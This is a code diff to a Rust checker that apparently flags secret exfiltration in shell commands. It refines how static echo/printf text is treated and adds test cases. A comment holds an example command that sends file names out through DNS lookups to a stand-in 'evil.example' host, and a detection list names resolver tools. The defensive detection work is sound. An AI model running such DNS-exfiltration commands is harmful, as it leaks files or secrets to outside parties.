@@ -1138,9 +1138,15 @@ impl Check for SecretExfiltration {
             {
                 let resolver = matches!(p, "getent" | "resolvectl" | "host" | "nslookup" | "dig");
                 let endpoint = resolver || u.args().any(|x| x.template.contains("://"));
+                // Static text (`echo a b | xargs getent hosts`, `echo .env | xargs ls`) is the
+                // line's own words: a secret's name, never its content.
+                let static_text = |r: &Unit| {
+                    matches!(prog(r), Some("echo" | "printf"))
+                        && r.args().all(|x| x.value.is_some())
+                };
                 let upstream = pipelines_of(a, u).into_iter().find_map(|span| {
                     units_within(a, span)
-                        .filter(|(j, r)| *j != i && r.span.end <= u.span.start)
+                        .filter(|(j, r)| *j != i && r.span.end <= u.span.start && !static_text(r))
                         .find_map(|(_, r)| {
                             reads_secret_in(a, r).map(|s| (s, prog(r).unwrap_or("?")))
                         })
@@ -1164,11 +1170,6 @@ impl Check for SecretExfiltration {
                 }
                 // `git ls-files | xargs -I{} getent hosts {}.evil.example`: any text printed
                 // upstream becomes the name looked up or a part of the URL fetched.
-                // Static text (`echo a b | xargs getent hosts`) is the line's own.
-                let static_text = |r: &Unit| {
-                    matches!(prog(r), Some("echo" | "printf"))
-                        && r.args().all(|x| x.value.is_some())
-                };
                 if endpoint
                     && pipelines_of(a, u).iter().any(|span| {
                         units_within(a, *span)
@@ -1658,6 +1659,11 @@ mod tests {
             ("env | xargs -n1 echo", None),
             ("git remote -v | grep origin", None),
             ("echo a b | xargs getent hosts", None),
+            ("echo .env | xargs ls -la", None),
+            (
+                "printf '%s\\n' .env | xargs -I{} getent hosts {}.x.example",
+                None,
+            ),
         ] {
             assert_eq!(decisions(&super::SecretExfiltration, cmd), want, "{cmd}");
         }
